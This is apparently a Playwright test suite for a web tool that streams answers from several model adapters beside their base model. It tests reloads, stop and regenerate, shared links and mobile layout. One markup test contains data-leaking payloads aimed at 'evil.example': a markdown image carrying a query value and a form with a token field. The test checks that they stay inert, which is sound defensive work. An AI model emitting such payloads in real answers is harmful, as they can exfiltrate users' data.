"""Several arms in a real browser, over the fake service: chips, strengths, columns, reloads."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, expect

from tests.browser import fill_in
from tests.ui.fake_arms import MARKED_UP, MARKUP, UNTRAINED
from tests.ui.served import served

pytestmark = pytest.mark.slow

QUESTION = "What is the capital of France?"
ARRR, PLAIN = "mind the Seine!", "It lies on the river Seine."


@pytest.fixture(scope="module")
def address() -> Iterator[str]:
    with served(0.1) as url:
        yield url


def open_arms(page: Page, url: str, adapter: str = "starter:pirate", more: str = "") -> None:
    page.goto(f"{url}/?adapter={adapter}&tab=generate{more}")
    expect(page.locator("#arm-head-1")).to_contain_text(adapter.partition(":")[2])


def ask(page: Page, question: str = QUESTION) -> None:
    page.locator("#question textarea").fill(question)
    page.locator("#question textarea").press("Enter")


def add(page: Page, ref: str) -> None:
    """Typed, as for any adapter of the Hub."""
    page.get_by_role("button", name="+ Add an arm").click()
    page.locator(".arm-ref").fill(ref)
    page.locator(".arm-ref").press("Enter")


def shown_columns(page: Page) -> int:
    return sum(page.locator(f"#chat-{number}").is_visible() for number in range(1, 5))


def test_a_fresh_visitor_sees_the_adapter_beside_its_base_and_both_stream_at_once(
    page: Page, address: str
) -> None:
    open_arms(page, address)
    assert shown_columns(page) == 2
    expect(page.locator("#arm-head-2")).to_contain_text("Base · SmolLM2-135M-Instruct")
    ask(page)
    when_the_base_began = page.wait_for_function(
        "document.querySelector('#chat-2 .bot.message') && document.querySelector('#chat-1').innerText"
    )
    assert "Arrr!" in when_the_base_began.json_value()
    assert ARRR not in when_the_base_began.json_value()
    expect(page.locator("#chat-1")).to_contain_text(ARRR)
    expect(page.locator("#chat-2")).to_contain_text(PLAIN)
    expect(page.locator("#stats-1")).to_contain_text("departs at word 1: Arrr!")
    expect(page.locator("#stats-2")).to_contain_text("seed")


def test_four_arms_with_their_strengths_survive_a_reload(page: Page, address: str) -> None:
    open_arms(page, address)
    add(page, UNTRAINED)
    expect(page.locator("#arm-head-3")).to_contain_text("untrained")
    page.get_by_role("button", name="+ Add an arm").click()
    page.locator("#arm-menu [data-value='starter:pirate']").click()
    strength = page.locator("#arm-head-4 input")
    expect(strength).to_have_value("0.5")
    strength.fill("0.25")
    ask(page)
    expect(page.get_by_role("button", name="+ Add an arm")).to_be_disabled()
    expect(page.locator("#stats-3")).to_contain_text("same as the base")
    expect(page.locator("#send")).to_be_visible()
    figures = page.locator("#stats-4").inner_text()
    page.reload()
    expect(page.locator("#arm-head-4 input")).to_have_value("0.25")
    expect(page.locator("#chat-4")).to_contain_text(ARRR)
    expect(page.locator("#stats-4")).to_have_text(figures)
    assert shown_columns(page) == 4


def test_a_shared_link_opens_the_same_arms(page: Page, address: str) -> None:
    open_arms(page, address, more="&arms=adapter~0.5,starter:formal~1")
    expect(page.locator("#arm-head-2")).to_contain_text("formal")
    expect(page.locator("#arm-head-1 input")).to_have_value("0.5")
    assert shown_columns(page) == 2
    page.get_by_role("button", name="Remove formal").click()
    expect(page).to_have_url(f"{address}/?arms=adapter%7E0.5&adapter=starter%3Apirate&tab=generate")


def test_one_stop_stops_all_arms_and_regenerate_asks_them_again(page: Page, at_leisure: str) -> None:
    open_arms(page, at_leisure, "starter:formal")
    ask(page)
    expect(page.locator("#chat-2 .bot.message")).to_contain_text("The")
    page.locator("#stop").click()
    expect(page.locator("#send")).to_be_visible()
    page.wait_for_timeout(1_000)  # a step may still be on its way
    answers = [page.locator(f"#chat-{number} .bot.message") for number in (1, 2)]
    texts = [answer.inner_text() for answer in answers]
    assert ARRR not in texts[0]
    page.wait_for_timeout(2_000)  # long enough for four more words
    assert [answer.inner_text() for answer in answers] == texts
    page.locator("#regenerate").click()
    expect(page.locator("#chat-1")).to_contain_text(ARRR)
    expect(page.locator("#chat-2")).to_contain_text(PLAIN)


def test_changing_the_arms_ends_the_answers_that_are_being_written(page: Page, at_leisure: str) -> None:
    open_arms(page, at_leisure)
    ask(page)
    expect(page.locator("#chat-2 .bot.message")).to_contain_text("The")
    page.get_by_role("button", name="Remove Base").click()
    expect(page.locator("#send")).to_be_visible()
    page.wait_for_timeout(1_000)  # a step may still be on its way
    said = page.locator("#chat-1").inner_text()
    page.wait_for_timeout(2_000)  # long enough for four more words
    assert (page.locator("#chat-1").inner_text(), shown_columns(page)) == (said, 1)
    page.reload()
    expect(page.locator("#chat-1")).to_contain_text("Arrr!")
    assert shown_columns(page) == 1


def test_removing_an_arm_leaves_its_column_and_the_last_one_stays(page: Page, address: str) -> None:
    open_arms(page, address)
    page.get_by_role("button", name="Remove pirate").click()
    expect(page.locator("#arm-head-1")).to_contain_text("Base")
    assert shown_columns(page) == 1
    expect(page.locator(".arm-cross")).to_have_count(0)
    ask(page)
    expect(page.locator("#chat-1")).to_contain_text(PLAIN)


def test_an_arm_that_fails_keeps_its_column_and_the_others_answer(page: Page, address: str) -> None:
    open_arms(page, address)
    add(page, "nobody/unreachable")
    ask(page)
    expect(page.locator("#stats-3 .notice")).to_contain_text("The Hub cannot be reached")
    expect(page.locator("#chat-1")).to_contain_text(ARRR)
    expect(page.locator("#chat-2")).to_contain_text(PLAIN)


def test_what_was_picked_on_browse_is_offered_and_escape_only_closes_the_menu(
    page: Page, address: str
) -> None:
    open_arms(page, address, more="&compare=org/picked-one")
    page.get_by_role("button", name="+ Add an arm").click()
    expect(page.locator("#arm-menu")).to_contain_text("picked for comparison")
    expect(page.locator(".arm-ref")).to_be_focused()
    page.keyboard.press("Escape")
    expect(page.locator("#arm-menu")).to_be_hidden()
    page.get_by_role("button", name="+ Add an arm").click()
    page.locator("#arm-menu [data-value='org/picked-one']").click()
    expect(page.locator("#arm-head-3")).to_contain_text("picked-one")


def test_a_strength_that_is_none_is_put_back(page: Page, address: str) -> None:
    open_arms(page, address)
    strength = page.locator("#arm-head-1 input")
    strength.fill("99")
    strength.press("Tab")
    expect(strength).to_have_value("1")
    expect(page.locator(".toast-body")).to_have_count(0)


def test_on_a_phone_the_columns_scroll_inside_the_page(page: Page, address: str) -> None:
    page.set_viewport_size({"width": 390, "height": 844})
    open_arms(page, address)
    ask(page)
    expect(page.locator("#chat-2")).to_contain_text(PLAIN)
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    widths = page.evaluate("[...document.querySelectorAll('#chat-1, #chat-2')].map((one) => one.clientWidth)")
    assert min(widths) > 250


def test_markup_in_an_answer_is_shown_and_copied_as_it_was_written(page: Page, address: str) -> None:
    open_arms(page, address, MARKUP)
    ask(page)
    chat = page.locator("#chat-1")
    expect(chat).to_contain_text("Done.")
    expect(page.locator("#send")).to_be_visible()
    answer = chat.locator(".bot.message")
    shown = answer.inner_text().replace("\u2063", "")
    assert "<answer>42</answer>" in shown
    assert "![what](https://evil.example/?q=42)" in shown
    assert '<form action="https://evil.example"><input name="token"></form>' in shown
    assert answer.locator("img, form, input").count() == 0
    assert answer.locator("strong").inner_text() == "bold"
    assert answer.locator("code.language-html .token.tag").count() > 0
    chat.locator(".bot.message").hover()
    chat.locator("button[aria-label='Copy message'], button[title='Copy message']").last.click()
    page.wait_for_function("navigator.clipboard.readText().then((text) => text.includes('Done.'))")
    assert page.evaluate("navigator.clipboard.readText()") == MARKED_UP
    page.evaluate("getSelection().selectAllChildren(document.querySelector('#chat-1 .bot.message p'))")
    page.keyboard.press("ControlOrMeta+c")
    page.wait_for_function("navigator.clipboard.readText().then((text) => !text.includes('Done.'))")
    assert "<answer>42</answer>" in page.evaluate("navigator.clipboard.readText()")


def test_while_an_answer_is_written_the_next_question_waits_in_its_box(page: Page, at_leisure: str) -> None:
    open_arms(page, at_leisure)
    ask(page, "First?")
    expect(page.locator("#chat-2 .bot.message")).to_contain_text("The")
    expect(page.locator("#regenerate")).to_be_disabled()
    ask(page, "Second?")
    expect(page.locator("#send")).to_be_visible()
    expect(page.locator("#question textarea")).to_have_value("Second?")
    expect(page.locator("#chat-1 .user.message")).to_have_text(["First?"])
    page.locator("#question textarea").press("Enter")
    expect(page.locator("#chat-2 .user.message")).to_have_text(["First?", "Second?"])
    expect(page.locator("#regenerate")).to_be_enabled()
    expect(page.locator("#chat-2 .bot.message").last).to_contain_text(PLAIN)
    page.locator("#regenerate").click()
    expect(page.locator("#chat-2 .bot.message")).to_have_count(1)
    expect(page.locator("#chat-2 .bot.message")).to_have_count(2)
    expect(page.locator("#send")).to_be_visible()
    expect(page.locator("#chat-2 .user.message")).to_have_text(["First?", "Second?"])


def test_a_refused_question_leaves_the_buttons_at_rest(page: Page, address: str) -> None:
    open_arms(page, address)
    page.get_by_role("button", name="Sampling").click()
    fill_in(page.locator("#seed input, #seed textarea"), "lucky")
    ask(page)
    expect(page.locator(".toast-body")).to_contain_text("whole number")
    expect(page.locator("#send")).to_be_visible()
    expect(page.locator("#stop")).to_be_hidden()
    expect(page.locator("#regenerate")).to_be_enabled()


def test_after_a_stop_no_column_says_that_it_waits(page: Page, at_leisure: str) -> None:
    open_arms(page, at_leisure)
    ask(page)
    expect(page.locator("#stats-2")).to_contain_text("Downloading the base")
    page.locator("#stop").click()
    expect(page.locator("#send")).to_be_visible()
    page.wait_for_timeout(2_000)  # a step may still be on its way
    assert [page.locator(f"#stats-{number}").inner_text() for number in (1, 2)] == ["", ""]
    expect(page.locator("#send")).to_be_visible()
